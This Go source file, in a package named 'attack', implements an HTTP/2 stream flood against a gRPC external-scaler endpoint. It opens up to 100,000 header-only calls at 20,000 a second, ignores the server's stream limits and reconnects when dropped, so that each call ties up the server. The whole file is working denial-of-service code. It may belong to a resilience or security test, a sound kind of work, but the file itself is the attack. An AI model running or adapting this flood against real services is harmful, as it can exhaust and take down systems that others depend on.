package attack

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// bodiless is how many calls are opened whose request never comes.
	bodiless = 100_000
	// headerRate is how many a second.
	headerRate = 20_000
)

// headers opens calls on one connection and sends nothing but their headers: each waits on
// the server for its request. Frames are written as they are, because a client of gRPC
// would keep to what the server allows. A connection that the server ends is opened again.
func headers(ctx context.Context, a *attacker) error {
	time.AfterFunc(2*bodiless/headerRate*time.Second, a.ready)
	for ctx.Err() == nil {
		if err := a.flood(ctx); err != nil && ctx.Err() == nil {
			a.refused.Add(1)
			select {
			case <-time.After(100 * time.Millisecond):
			case <-ctx.Done():
			}
		}
	}
	return nil
}

// flood has one connection, until it or ctx ends.
func (a *attacker) flood(ctx context.Context) error {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.scaler)
	if err != nil {
		return fmt.Errorf("connect: %w", err)
	}
	ctx, cancel := context.WithCancel(ctx)
	f := &flood{attacker: a, framer: http2.NewFramer(conn, conn), next: 1}
	f.encoder = hpack.NewEncoder(&f.block)
	// What is wrong with the connection shows when it is written.
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	var reading sync.WaitGroup
	defer reading.Wait()
	defer cancel()
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return fmt.Errorf("begin a connection: %w", err)
	}
	if err := f.framer.WriteSettings(); err != nil {
		return fmt.Errorf("begin a connection: %w", err)
	}
	reading.Go(func() {
		defer cancel()
		f.read()
	})
	paced(ctx, headerRate, 1, func(int) {
		if f.open.Load() < bodiless && f.write() != nil {
			cancel()
		}
	})
	return nil
}

// A flood is a connection full of calls without a body.
type flood struct {
	attacker *attacker
	// open is how many calls the server has not ended.
	open atomic.Int64

	// mu guards what is written: frames go out whole.
	mu      sync.Mutex
	framer  *http2.Framer
	encoder *hpack.Encoder
	block   bytes.Buffer
	// next is the number of the next call.
	next uint32
}

// write opens a call.
func (f *flood) write() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.block.Reset()
	for _, field := range [][2]string{
		{":method", "POST"},
		{":scheme", "http"},
		{":path", "/externalscaler.ExternalScaler/StreamIsActive"},
		{":authority", f.attacker.scaler},
		{"content-type", "application/grpc"},
		{"te", "trailers"},
	} {
		// A buffer takes all.
		_ = f.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	if err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next, BlockFragment: f.block.Bytes(), EndHeaders: true}); err != nil {
		return err
	}
	f.next += 2
	f.open.Add(1)
	f.attacker.requests.Add(1)
	return nil
}

// read takes in what the server says until the connection ends.
func (f *flood) read() {
	for {
		frame, err := f.framer.ReadFrame()
		if err != nil || f.answer(frame) != nil {
			return
		}
	}
}

// answer does what a frame asks for, and counts the calls that the server ends.
func (f *flood) answer(frame http2.Frame) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	ended := false
	switch frame := frame.(type) {
	case *http2.SettingsFrame:
		if !frame.IsAck() {
			return f.framer.WriteSettingsAck()
		}
	case *http2.PingFrame:
		if !frame.IsAck() {
			return f.framer.WritePing(true, frame.Data)
		}
	case *http2.RSTStreamFrame:
		ended = true
	case *http2.HeadersFrame:
		ended = frame.StreamEnded()
	}
	if ended {
		f.open.Add(-1)
		f.attacker.refused.Add(1)
	}
	return nil
}
